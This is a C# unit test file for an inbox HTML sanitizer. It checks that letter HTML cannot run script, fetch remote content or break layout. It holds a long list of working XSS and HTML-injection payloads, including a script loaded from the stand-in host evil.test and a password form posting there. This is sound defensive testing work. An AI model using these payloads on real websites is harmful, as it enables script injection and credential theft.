using System.Text.RegularExpressions;
using AngleSharp.Html.Parser;
using Postbag.Casework.Inbox.Html;
using Shouldly;
using Xunit;

namespace Postbag.Tests.Casework.Inbox.Html;

/// <summary>Whatever a letter's HTML tries, what is shown of it can't run, fetch, send or break out.</summary>
[Trait("engine", "either")]
public sealed class SafeHtmlTests
{
    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\0>alert(1)</script>",
        "<script/x>alert(1)</script >",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<img src=x onerror=alert(1)>",
        "<img src=x:x onerror\n=\nalert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<body onload=alert(1)>text",
        "<div onmouseover='alert(1)' onclick=alert(1) ONFOCUS=alert(1) tabindex=1 autofocus>x</div>",
        "<svg onload=alert(1)></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"/></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "<a href=\" \u00a0javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"blob:https://example.org/x\">x</a>",
        "<a href=\"/casework/inbox\">x</a>",
        "<a href=\"//evil.test/\">x</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"https://evil.test/x.swf\">",
        "<applet code=x.class></applet>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.test/\">",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
        "<base href=\"https://evil.test/\"><a href=\"x\">x</a>",
        "<link rel=stylesheet href=https://evil.test/x.css>",
        "<link rel=prefetch href=https://evil.test/x>",
        "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test/)}</style>",
        "<style><!--</style><script>alert(1)//--></script>",
        "<div style=\"background:url(https://evil.test/x.png)\">x</div>",
        "<div style=\"background:\\75rl(https://evil.test/x.png)\">x</div>",
        "<div style=\"background-image:image-set('https://evil.test/x.png' 1x)\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"behavior:url(#x);-moz-binding:url(https://evil.test/x#x)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">x</div>",
        "<div style=\"color:red;}</style><script>alert(1)</script>\">x</div>",
        "<div style=\"font-family:'x</style><img src=y onerror=alert(1)>'\">x</div>",
        "<div style=\"color:/**/red;background:/*x*/url/**/(https://evil.test)\">x</div>",
        "<form action=https://evil.test/><input name=password type=password><button formaction=javascript:alert(1)>Sign in</button></form>",
        "<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)></textarea><select autofocus onfocus=alert(1)>",
        "<isindex action=javascript:alert(1) type=image>",
        "<video src=https://evil.test/x poster=https://evil.test/y onerror=alert(1)><source onerror=alert(1)></video>",
        "<audio src=https://evil.test/x autoplay></audio>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<table background=\"https://evil.test/x.png\"><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
        "<img src=\"https://evil.test/open.gif\" srcset=\"https://evil.test/2x.gif 2x\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<picture><source srcset=https://evil.test/x><img src=https://evil.test/y></picture>",
        "<image src=https://evil.test/x onerror=alert(1)>",
        "<map name=m><area shape=rect coords=0,0,9,9 href=javascript:alert(1)></map><img usemap=#m src=x>",
        "<template><script>alert(1)</script></template>",
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea></textarea><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
        "<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><?php alert(1) ?><script>alert(1)</script>",
        "<p id=main class=pb-row name=cookie is=x-y data-key=u>x</p>",
        "<a target=_top ping=https://evil.test/ download href=https://example.org/>x</a>",
        "<x-custom onclick=alert(1)>x</x-custom><o:p onload=alert(1)>y</o:p>",
        "<p title=\"&quot;><script>alert(1)</script>\">x</p>",
        "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<td width=\"1;}\" height=expression(1) colspan=99999999>x</td>",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Nothing_hostile_is_left(string html)
    {
        foreach (var pictures in new[] { Pictures.Blurred, Pictures.Own })
        {
            var safe = SafeHtml.Of(html, pictures, _ => null).Body;

            ShouldBeHarmless(safe);
            // Parsed again, as browsers do, it is the same: nothing changes its meaning on the way.
            var again = new HtmlParser().ParseDocument(safe).Body!.InnerHtml;
            ShouldBeHarmless(again);
        }
    }

    [Fact]
    public void There_are_at_least_forty_hostile_letters() => Hostile.Count.ShouldBeGreaterThan(40);

    [Fact]
    public void What_a_letter_says_and_how_it_looks_stays()
    {
        var safe = SafeHtml.Of(
            """
            <div style="color: rgb(1, 2, 3); font-size:14px; position:absolute"><b>Dear</b> <font color="red" size=2>Ms Prys</font>,
            <table width="100%" bgcolor="#eee"><tr><td colspan=2 align=center>Damp &amp; cold</td></tr></table>
            <form>Please <a href="https://example.org/a?b=1&c=2">look</a></form></div>
            """,
            Pictures.Blurred, _ => null).Body;

        safe.ShouldContain("<div style=\"color: rgb(1, 2, 3); font-size: 14px\">");
        safe.ShouldContain("<b>Dear</b> <font color=\"red\" size=\"2\">Ms Prys</font>");
        safe.ShouldContain("<td colspan=\"2\" align=\"center\">Damp &amp; cold</td>");
        safe.ShouldContain("href=\"https://example.org/a?b=1&amp;c=2\"");
        safe.ShouldContain("rel=\"noopener noreferrer nofollow\"");
        safe.ShouldContain("Please ");
    }

    [Fact]
    public void Pictures_elsewhere_are_only_named_until_they_are_asked_for()
    {
        const string Html = "<img src='https://example.org/a.png' alt='Our house'><img src='https://example.org/b.gif' width=1 height=1>";

        var blurred = SafeHtml.Of(Html, Pictures.Blurred, _ => null);
        var all = SafeHtml.Of(Html, Pictures.All, _ => null);

        blurred.Body.ShouldBe("<span class=\"gap\">Picture: Our house</span>");
        blurred.RemotePictures.ShouldBe(1);
        all.Body.ShouldContain("<img src=\"https://example.org/a.png\" alt=\"Our house\"");
        all.Body.ShouldNotContain("b.gif");
    }

    [Fact]
    public void Pictures_that_came_with_the_letter_are_blurred_until_they_are_asked_for()
    {
        byte[] png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 1, 2, 3];
        const string Html = "<img src='cid:one@example.org' alt='x'><img src='cid:two@example.org'>";
        ReadOnlyMemory<byte>? Find(string id) => id == "one@example.org" ? png : "<svg onload=alert(1)>"u8.ToArray();

        var blurred = SafeHtml.Of(Html, Pictures.Blurred, Find);
        var own = SafeHtml.Of(Html, Pictures.Own, Find);

        blurred.OwnPictures.ShouldBe(1);
        blurred.Body.ShouldContain("class=\"blurred\"");
        own.Body.ShouldContain("<img src=\"data:image/png;base64,");
        own.Body.ShouldNotContain("blurred");
        own.Body.ShouldNotContain("svg");
    }

    [Theory]
    [InlineData("<div>", 60_000)]
    [InlineData("<b><i><font color=red><p>", 40_000)]
    [InlineData("<b a=1><b a=2><b a=3><b a=4><p title=\"</b></b></b></b>\">", 20_000)]
    [InlineData("<table><tr><td>", 30_000)]
    [InlineData("<a href='https://example.org/'>x", 60_000)]
    [InlineData("<svg><g><foreignObject>", 20_000)]
    public void Letters_nested_to_harm_are_cut(string html, int times)
    {
        var safe = SafeHtml.Of(string.Concat(Enumerable.Repeat(html, times)) + "the end", Pictures.Blurred, _ => null);

        safe.Body.Length.ShouldBeLessThan(40_000_000);
        ShouldBeHarmless(safe.Body);
    }

    private static void ShouldBeHarmless(string html)
    {
        foreach (var element in new HtmlParser().ParseDocument(html).Body!.QuerySelectorAll("*"))
        {
            SafeElements.Kept.Append("img").ShouldContain(element.LocalName);
            element.NamespaceUri.ShouldBe("http://www.w3.org/1999/xhtml");
            foreach (var attribute in element.Attributes)
            {
                attribute.Name.ShouldNotStartWith("on", Case.Insensitive);
                attribute.Name.ShouldNotBeOneOf(
                    "id", "name", "srcset", "background", "srcdoc", "formaction", "ping", "action");
                if (attribute.Name == "style")
                    Regex.IsMatch(attribute.Value, @"url|expression|@|\\|position|behavior|binding",
                        RegexOptions.IgnoreCase, TimeSpan.FromSeconds(1))
                        .ShouldBeFalse(attribute.Value);
                if (attribute.Name == "href")
                    Regex.IsMatch(attribute.Value, "^(https?|mailto|tel):", RegexOptions.ExplicitCapture,
                        TimeSpan.FromSeconds(1)).ShouldBeTrue(attribute.Value);
                if (attribute.Name == "src") attribute.Value.ShouldStartWith("data:image/");
                if (attribute.Name == "class") attribute.Value.ShouldBeOneOf("gap", "blurred");
                if (attribute.Name == "target") attribute.Value.ShouldBe("_blank");
            }
        }
    }
}
